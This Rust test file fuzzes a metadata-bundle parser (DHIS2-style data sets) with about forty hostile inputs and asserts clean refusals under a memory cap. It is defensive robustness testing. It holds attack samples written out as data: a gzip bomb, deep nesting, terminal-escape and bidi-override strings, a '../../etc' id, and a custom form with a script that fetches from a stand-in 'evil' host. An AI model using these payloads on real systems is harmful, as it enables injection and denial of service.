//! Hostile metadata: every file ends in a clear message or in a form that works, never in a panic, and
//! never takes more than 200 MiB.

#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::string_slice,
    clippy::panic,
    clippy::print_stdout,
    reason = "a test tells what is wrong by stopping"
)]

use std::{fmt::Write as _, io::Write as _};

use chrono::DateTime;
use daftar::bundle::{
    Built, CannotBuild, NotMetadata, Odd, Wanted, WhyLeftOut, counsel, from_metadata,
};
use flate2::{Compression, write::GzEncoder};
use peak_alloc::PeakAlloc;
use serde_json::{Value as Json, json};

#[global_allocator]
static MEMORY: PeakAlloc = PeakAlloc;

/// So much memory has the whole program on the oldest PC.
const MOST_MEMORY: f32 = 200.0;

/// What shall come of a file.
enum Then {
    /// It is refused as a whole.
    Refused(fn(&CannotBuild) -> bool),
    /// Its data set is left out, and why is said.
    LeftOut(WhyLeftOut),
    /// A bundle is made and the oddity said.
    Odd(Odd),
    /// A bundle is made, and nothing of what is hostile is in it.
    Fine,
}

struct Evil {
    name: &'static str,
    bytes: Vec<u8>,
    then: Then,
}

const UNIT: &str = "uFacility01";

fn combo() -> Json {
    json!({
        "id": "comboAge001", "name": "Age",
        "categories": [{"id": "catAge00001", "categoryOptions": [
            {"id": "oUnder10001", "name": "<1"}, {"id": "oOver100001", "name": "1+"}]}],
        "categoryOptionCombos": [
            {"id": "cUnder10001", "categoryOptions": [{"id": "oUnder10001"}]},
            {"id": "cOver100001", "categoryOptions": [{"id": "oOver100001"}]}],
    })
}

fn default_combo() -> Json {
    json!({
        "id": "bjDvmb4bfuf",
        "categories": [{"id": "GLevLNI9wkl", "categoryOptions": [{"id": "xYerKDKCefk", "name": "default"}]}],
        "categoryOptionCombos": [{"id": "HllvX50cXC0", "categoryOptions": [{"id": "xYerKDKCefk"}]}],
    })
}

fn element(id: &str) -> Json {
    json!({"dataElement": {"id": id, "name": id, "valueType": "INTEGER_ZERO_OR_POSITIVE", "categoryCombo": combo()}})
}

/// A sound document, to be spoiled.
fn sound() -> Json {
    json!({
        "organisationUnits": [{"id": UNIT, "name": "Centre", "level": 4, "dataSets": [{"id": "dsMonthly01"}]}],
        "dataSets": [{
            "id": "dsMonthly01", "name": "Monthly", "periodType": "Monthly", "categoryCombo": default_combo(),
            "dataSetElements": [element("deBcg000001"), element("deOpv000001")],
            "sections": [{"id": "secChildre1", "name": "Children",
                "dataElements": [{"id": "deBcg000001"}, {"id": "deOpv000001"}]}],
        }],
    })
}

fn spoiled(spoil: impl FnOnce(&mut Json)) -> Vec<u8> {
    let mut json = sound();
    spoil(&mut json);
    json.to_string().into_bytes()
}

fn set(json: &mut Json) -> &mut Json {
    &mut json["dataSets"][0]
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// Returns `before`, then so many pieces, then `after`.
fn long(before: &str, piece: &str, count: usize, after: &str) -> Vec<u8> {
    let mut text = String::with_capacity(before.len() + piece.len() * count + after.len());
    text.push_str(before);
    for _ in 0..count {
        text.push_str(piece);
    }
    text.push_str(after);
    text.into_bytes()
}

fn uid(kind: char, number: usize) -> String {
    format!("{kind}{number:010}")
}

fn not_json(error: &CannotBuild) -> bool {
    matches!(error, CannotBuild::NotMetadata(NotMetadata::NotJson(_)))
}

fn too_much(error: &CannotBuild) -> bool {
    matches!(
        error,
        CannotBuild::NotMetadata(
            NotMetadata::TooLarge | NotMetadata::TooManyValues | NotMetadata::TooDeep
        )
    )
}

fn no_set(error: &CannotBuild) -> bool {
    matches!(error, CannotBuild::NotMetadata(NotMetadata::NoDataSet))
}

fn damaged(error: &CannotBuild) -> bool {
    matches!(error, CannotBuild::NotMetadata(NotMetadata::Damaged(_)))
}

fn files_that_are_none() -> Vec<Evil> {
    let case = |name, bytes: Vec<u8>, then| Evil { name, bytes, then };
    let whole = sound().to_string();
    vec![
        case("an empty file", Vec::new(), Then::Refused(not_json)),
        case("a file of zeros", vec![0; 4096], Then::Refused(not_json)),
        case(
            "a picture",
            b"\x89PNG\r\n\x1a\n".to_vec(),
            Then::Refused(not_json),
        ),
        case(
            "a login page",
            b"<!doctype html><html></html>".to_vec(),
            Then::Refused(not_json),
        ),
        case("a number", b"42".to_vec(), Then::Refused(not_json)),
        case("a list", b"[1,2,3]".to_vec(), Then::Refused(not_json)),
        case("an empty object", b"{}".to_vec(), Then::Refused(no_set)),
        case(
            "data sets that are a text",
            b"{\"dataSets\":\"all\"}".to_vec(),
            Then::Refused(no_set),
        ),
        case(
            "data sets that are an object",
            b"{\"dataSets\":{\"a\":1}}".to_vec(),
            Then::Refused(no_set),
        ),
        case(
            "cut in the middle",
            whole.as_bytes()[..whole.len() / 2].to_vec(),
            Then::Refused(not_json),
        ),
        case(
            "not UTF-8",
            b"{\"dataSets\":[{\"name\":\"\xff\xfe\"}]}".to_vec(),
            Then::Refused(not_json),
        ),
        case(
            "half a surrogate",
            b"{\"dataSets\":[{\"name\":\"\\ud800\"}]}".to_vec(),
            Then::Refused(not_json),
        ),
        case(
            "a number beyond all numbers",
            b"{\"dataSets\":[{\"expiryDays\":1e999}]}".to_vec(),
            Then::Refused(not_json),
        ),
        case(
            "gzip cut off",
            gzip(whole.as_bytes())[..60].to_vec(),
            Then::Refused(damaged),
        ),
        case(
            "gzip of nothing known",
            b"\x1f\x8b\x08garbage".to_vec(),
            Then::Refused(damaged),
        ),
    ]
}

fn files_that_are_too_much() -> Vec<Evil> {
    let case = |name, bytes: Vec<u8>, then| Evil { name, bytes, then };
    let megabytes = 33 * 1024 * 1024;
    vec![
        case(
            "brackets without end",
            long("{\"dataSets\":", "[", 100_000, ""),
            Then::Refused(too_much),
        ),
        case(
            "objects without end",
            long("", "{\"a\":", 100_000, ""),
            Then::Refused(too_much),
        ),
        case(
            "a bomb in gzip",
            gzip(&vec![b' '; megabytes]),
            Then::Refused(too_much),
        ),
        case(
            "larger than any country",
            long(
                "{\"dataSets\":[],\"x\":\"",
                "aaaaaaaa",
                megabytes / 8,
                "\"}",
            ),
            Then::Refused(too_much),
        ),
        case(
            "an element list of millions",
            long(
                "{\"dataSets\":[{\"dataSetElements\":[0",
                ",0",
                3_000_000,
                "]}]}",
            ),
            Then::Refused(too_much),
        ),
        case(
            "millions of empty items",
            long("{\"dataElements\":[0", ",0", 8_000_000, "]}"),
            Then::Refused(too_much),
        ),
        case(
            "rules of millions of levels",
            long(
                "{\"validationRules\":[{\"organisationUnitLevels\":[0",
                ",0",
                1_000_000,
                "]}]}",
            ),
            Then::Refused(too_much),
        ),
        case(
            "one name of 30 megabytes",
            long(
                "{\"dataSets\":[{\"id\":\"dsMonthly01\",\"name\":\"",
                "abcdefgh",
                3_900_000,
                "\"}]}",
            ),
            Then::LeftOut(WhyLeftOut::PeriodType),
        ),
        case(
            "a hundred thousand option combos",
            {
                let mut combos = String::from("0");
                for number in 0..60_000 {
                    write!(combos, ",{{\"id\":\"{}\"}}", uid('c', number)).unwrap();
                }
                let rest = sound().to_string();
                format!("{{\"categoryOptionCombos\":[{combos}],{}", &rest[1..]).into_bytes()
            },
            Then::Odd(Odd::TooMany),
        ),
        case(
            "forty thousand keys",
            {
                let mut keys = String::from("{");
                for number in 0..40_000 {
                    write!(keys, "\"key{number}\":1,").unwrap();
                }
                keys + &sound().to_string()[1..]
            }
            .into_bytes(),
            Then::Odd(Odd::SetAside),
        ),
    ]
}

fn forms_that_are_none() -> Vec<Evil> {
    let case = |name, bytes: Vec<u8>, then| Evil { name, bytes, then };
    vec![
        case(
            "a data set without an id",
            spoiled(|json| set(json)["id"] = json!(null)),
            Then::LeftOut(WhyLeftOut::Unreadable),
        ),
        case(
            "an id of another shape",
            spoiled(|json| set(json)["id"] = json!("../../etc")),
            Then::LeftOut(WhyLeftOut::Unreadable),
        ),
        case(
            "a period type of nobody",
            spoiled(|json| set(json)["periodType"] = json!("Fortnightly")),
            Then::LeftOut(WhyLeftOut::PeriodType),
        ),
        case(
            "an attribute that is nowhere",
            spoiled(|json| set(json)["categoryCombo"] = json!({"id": "comboGone01"})),
            Then::LeftOut(WhyLeftOut::Attribute),
        ),
        case(
            "no elements",
            spoiled(|json| set(json)["dataSetElements"] = json!([])),
            Then::LeftOut(WhyLeftOut::Empty),
        ),
        case(
            "elements that are nowhere",
            spoiled(|json| {
                set(json)["dataSetElements"] = json!([{"dataElement": {"id": "deGone00001"}}]);
            }),
            Then::LeftOut(WhyLeftOut::Empty),
        ),
        case(
            "more cells than any form",
            spoiled(|json| {
                let options: Vec<Json> = (0..200)
                    .map(|n| json!({"id": uid('o', n), "name": "x"}))
                    .collect();
                let combos: Vec<Json> = (0..200)
                    .map(|n| json!({"id": uid('c', n), "categoryOptions": [{"id": uid('o', n)}]}))
                    .collect();
                let wide = json!({"id": "comboWide01", "categories": [{"id": "catWide0001", "categoryOptions": options}], "categoryOptionCombos": combos});
                let elements: Vec<Json> = (0..300).map(|n| json!({"dataElement": {"id": uid('e', n), "valueType": "NUMBER", "categoryCombo": {"id": "comboWide01"}}})).collect();
                json["categoryCombos"] = json!([wide]);
                let listed: Vec<Json> = (0..300).map(|n| json!({"id": uid('e', n)})).collect();
                set(json)["dataSetElements"] = json!(elements);
                set(json)["sections"][0]["dataElements"] = json!(listed);
            }),
            Then::LeftOut(WhyLeftOut::TooLarge),
        ),
        case(
            "every field of another type",
            spoiled(|json| {
                for (field, value) in [
                    ("version", json!("new")),
                    ("expiryDays", json!([])),
                    ("timelyDays", json!({})),
                    ("openFuturePeriods", json!("1")),
                    ("translations", json!(7)),
                    ("dataInputPeriods", json!("none")),
                    ("compulsoryDataElementOperands", json!(true)),
                    ("workflow", json!(1)),
                    ("displayOptions", json!(1)),
                    ("organisationUnits", json!(1)),
                    ("name", json!([1])),
                ] {
                    set(json)[field] = value;
                }
            }),
            Then::Fine,
        ),
        case(
            "numbers at the end of all numbers",
            spoiled(|json| {
                set(json)["expiryDays"] = json!(1e308);
                set(json)["timelyDays"] = json!(-1e308);
                set(json)["openFuturePeriods"] = json!(i32::MAX);
                set(json)["openPeriodsAfterCoEndDate"] = json!(i32::MIN);
                set(json)["version"] = json!(u32::MAX);
            }),
            Then::Fine,
        ),
    ]
}

#[expect(clippy::too_many_lines, reason = "a table of cases")]
fn parts_that_contradict() -> Vec<Evil> {
    let case = |name, bytes: Vec<u8>, then| Evil { name, bytes, then };
    vec![
        case(
            "the same data set twice",
            spoiled(|json| {
                let again = set(json).clone();
                json["dataSets"].as_array_mut().unwrap().push(again);
            }),
            Then::Odd(Odd::Twice),
        ),
        case(
            "the same unit twice",
            spoiled(|json| {
                let again = json["organisationUnits"][0].clone();
                json["organisationUnits"]
                    .as_array_mut()
                    .unwrap()
                    .push(again);
            }),
            Then::Odd(Odd::Twice),
        ),
        case(
            "the same list twice",
            {
                let rest = sound().to_string();
                format!("{{\"dataSets\":[],{}", &rest[1..]).into_bytes()
            },
            Then::Fine,
        ),
        case(
            "an element twice in a section",
            spoiled(|json| {
                set(json)["sections"][0]["dataElements"] =
                    json!([{"id": "deBcg000001"}, {"id": "deBcg000001"}]);
            }),
            Then::Odd(Odd::InTwoSections),
        ),
        case(
            "a section of strangers",
            spoiled(|json| {
                set(json)["sections"][0]["dataElements"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!("deStrange01"));
            }),
            Then::Odd(Odd::ElementMissing),
        ),
        case(
            "a section without an id",
            spoiled(|json| {
                let mut section = set(json)["sections"][0].clone();
                section["id"] = json!("");
                set(json)["sections"].as_array_mut().unwrap().push(section);
            }),
            Then::Odd(Odd::Unreadable),
        ),
        case(
            "a ring of units",
            spoiled(|json| {
                json["organisationUnits"] = json!([
                {"id": UNIT, "name": "A", "parent": {"id": "uFacility02"}, "dataSets": ["dsMonthly01"]},
                {"id": "uFacility02", "name": "B", "parent": {"id": UNIT}}]);
            }),
            Then::Odd(Odd::UnitCycle),
        ),
        case(
            "a path of a thousand units",
            spoiled(|json| {
                json["organisationUnits"][0]["path"] = json!(format!("/{UNIT}").repeat(1000));
            }),
            Then::Odd(Odd::UnitCycle),
        ),
        case(
            "combos of the same options",
            spoiled(|json| {
                set(json)["dataSetElements"][0]["dataElement"]["categoryCombo"]["categoryOptionCombos"]
                .as_array_mut().unwrap()
                .push(json!({"id": "cTwin000001", "categoryOptions": ["oUnder10001"]}));
            }),
            Then::Odd(Odd::ComboAmbiguous),
        ),
        case(
            "combos of nothing",
            spoiled(|json| {
                set(json)["dataSetElements"][0]["dataElement"]["categoryCombo"]["categoryOptionCombos"]
                    [0]["categoryOptions"] = json!([]);
            }),
            Then::Odd(Odd::ComboIncomplete),
        ),
        case(
            "an absurd combo",
            spoiled(|json| {
                let options: Vec<Json> = (0..50)
                    .map(|n| json!({"id": uid('o', n), "name": "x"}))
                    .collect();
                let categories: Vec<Json> = (0..30)
                    .map(|n| json!({"id": uid('k', n), "categoryOptions": options}))
                    .collect();
                set(json)["dataSetElements"][0]["dataElement"]["categoryCombo"] = json!({
                "id": "comboAbsurd", "categories": categories, "categoryOptionCombos": [{"id": "cAbsurd0001", "categoryOptions": []}]});
            }),
            Then::Odd(Odd::TooManyColumns),
        ),
        case(
            "an option listed twice",
            spoiled(|json| {
                let options = &mut set(json)["dataSetElements"][0]["dataElement"]["categoryCombo"]
                    ["categories"][0]["categoryOptions"];
                let again = options[0].clone();
                options.as_array_mut().unwrap().push(again);
            }),
            Then::Odd(Odd::ComboIncomplete),
        ),
        case(
            "an option set that is nowhere",
            spoiled(|json| {
                set(json)["dataSetElements"][0]["dataElement"]["optionSet"] =
                    json!({"id": "osGone00001"});
            }),
            Then::Odd(Odd::OptionSetMissing),
        ),
        case(
            "options that steer a terminal",
            spoiled(|json| {
                set(json)["dataSetElements"][0]["dataElement"]["optionSet"] = json!({"id": "osEvil00001", "options": [
                {"code": "a\u{1b}[2J", "name": "A"}, {"code": "", "name": "B"}, {"code": "C", "name": "C"}]});
            }),
            Then::Odd(Odd::OptionUnusable),
        ),
        case(
            "display options that are no JSON",
            spoiled(|json| {
                set(json)["sections"][0]["displayOptions"] = json!("{\"pivotMode\":");
            }),
            Then::Odd(Odd::DisplayUnreadable),
        ),
        case(
            "display options deep as a well",
            spoiled(|json| {
                set(json)["sections"][0]["displayOptions"] = json!("[".repeat(100_000));
            }),
            Then::Odd(Odd::DisplayUnreadable),
        ),
        case(
            "a category moved that is nowhere",
            spoiled(|json| {
                set(json)["sections"][0]["displayOptions"] =
                    json!("{\"pivotMode\":\"move_categories\",\"pivotedCategory\":\"x\"}");
            }),
            Then::Fine,
        ),
        case(
            "an element in no section",
            spoiled(|json| {
                set(json)["sections"][0]["dataElements"] = json!([{"id": "deBcg000001"}]);
            }),
            Then::Odd(Odd::InNoSection),
        ),
        case(
            "properties of tomorrow",
            spoiled(|json| {
                set(json)["hologram"] = json!({"depth": [1, 2, 3]});
            }),
            Then::Odd(Odd::UnknownProperties),
        ),
    ]
}

fn texts_that_steer() -> Vec<Evil> {
    const STEERING: &str = "Centre\u{1b}]0;x\u{7}\u{9b}31m\u{202e}\u{2066}\r\n\u{0}\u{7f}";
    let case = |name, bytes: Vec<u8>, then| Evil { name, bytes, then };
    vec![
        case(
            "names that steer a terminal",
            spoiled(|json| {
                json["organisationUnits"][0]["name"] = json!(STEERING);
                set(json)["name"] = json!(STEERING);
                set(json)["sections"][0]["name"] = json!(STEERING);
                set(json)["dataSetElements"][0]["dataElement"]["formName"] = json!(STEERING);
                set(json)["translations"] =
                    json!([{"property": "NAME", "locale": "ar", "value": STEERING}]);
            }),
            Then::Fine,
        ),
        case(
            "a property name that steers",
            spoiled(|json| {
                set(json)[STEERING] = json!(1);
            }),
            Then::Odd(Odd::UnknownProperties),
        ),
        case(
            "a custom form that runs",
            spoiled(|json| {
                let html = "<script>fetch('http://evil')</script><h1>\u{1b}[2J</h1><input id=\"deBcg000001-cUnder10001-val\" onfocus=\"x()\">";
                set(json)["sections"] = json!([]);
                set(json)["dataEntryForm"] = json!({"id": "htmlEvil001", "htmlCode": html});
            }),
            Then::Odd(Odd::PaperOrder),
        ),
        case(
            "a custom form without an end",
            spoiled(|json| {
                set(json)["sections"] = json!([]);
                set(json)["dataEntryForm"] =
                    json!({"id": "htmlEvil001", "htmlCode": "<h1><input id='".repeat(200_000)});
            }),
            Then::Fine,
        ),
        case(
            "a rule of nested brackets",
            spoiled(|json| {
                let side = json!({"expression": format!("{}#{{deBcg000001}}", "(".repeat(5_000)), "missingValueStrategy": "NEVER_SKIP"});
                json["validationRules"] = json!([{"id": "vrNested001", "operator": "equal_to", "leftSide": side, "rightSide": side}]);
            }),
            Then::Fine,
        ),
    ]
}

#[test]
fn every_evil_file_ends_well() {
    let mut all = files_that_are_none();
    all.extend(forms_that_are_none());
    all.extend(parts_that_contradict());
    all.extend(texts_that_steer());
    let small = all.len();
    // The large ones one after the other: each is dropped before the next is made.
    let mut most = 0.0_f32;
    let mut told = 0;
    for evil in all {
        judge(evil, &mut most);
        told += 1;
    }
    for index in 0..files_that_are_too_much().len() {
        let evil = files_that_are_too_much().remove(index);
        judge(evil, &mut most);
        told += 1;
    }
    println!("{told} evil files ({small} small ones); at most {most:.0} MiB");
    assert!(told >= 40);
    assert!(most < MOST_MEMORY, "{most} MiB");
}

fn judge(evil: Evil, most: &mut f32) {
    let Evil { name, bytes, then } = evil;
    MEMORY.reset_peak_usage();
    let built = from_metadata(&bytes, "", DateTime::UNIX_EPOCH, &Wanted::default());
    *most = most.max(MEMORY.peak_usage_as_mb());
    match (then, built) {
        (Then::Refused(how), Err(error)) => {
            assert!(how(&error), "{name}: {error:?}");
            let said = error.to_string();
            assert!(
                !said.is_empty() && !said.contains(char::is_control),
                "{name}: {said}"
            );
        }
        (Then::LeftOut(why), Err(CannotBuild::Nothing)) => {
            // With nothing else in it there is no bundle; the reason stands beside it.
            let bytes = beside_a_sound_one(&bytes);
            let built =
                from_metadata(&bytes, "", DateTime::UNIX_EPOCH, &Wanted::default()).unwrap();
            assert_eq!(
                built
                    .left_out
                    .iter()
                    .map(|left| left.why)
                    .collect::<Vec<_>>(),
                [why],
                "{name}"
            );
            clean(name, &built);
        }
        (Then::Odd(kind), Ok(built)) => {
            assert!(
                built.oddities.iter().any(|oddity| oddity.kind == kind),
                "{name}: {:?}",
                built.oddities
            );
            clean(name, &built);
        }
        (Then::Fine, Ok(built)) => clean(name, &built),
        (_, built) => panic!("{name}: {built:?}"),
    }
}

/// Puts a data set that works beside the one that does not.
fn beside_a_sound_one(bytes: &[u8]) -> Vec<u8> {
    let mut json: Json = serde_json::from_slice(bytes).unwrap();
    let mut sound = sound();
    set(&mut sound)["id"] = json!("dsSound0001");
    let sets = json["dataSets"].as_array_mut().unwrap();
    sets.push(set(&mut sound).clone());
    json["organisationUnits"] =
        json!([{"id": UNIT, "name": "Centre", "dataSets": [{"id": "dsSound0001"}]}]);
    json.to_string().into_bytes()
}

/// Nothing in a bundle, and nothing that is said of it, steers a terminal; and the bundle can be read.
fn clean(name: &str, built: &Built) {
    let steers = |ch: char| {
        ch.is_control() || matches!(ch, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    for oddity in &built.oddities {
        assert!(
            !oddity.at.contains(steers) && !oddity.detail.contains(steers),
            "{name}: {oddity:?}"
        );
    }
    drop(counsel(&built.bundle));
    let bytes = built
        .bundle
        .to_bytes()
        .unwrap_or_else(|error| panic!("{name}: {error}"));
    let read = daftar::bundle::Bundle::from_bytes(&bytes).unwrap();
    assert_eq!(read.forms, built.bundle.forms, "{name}");
}
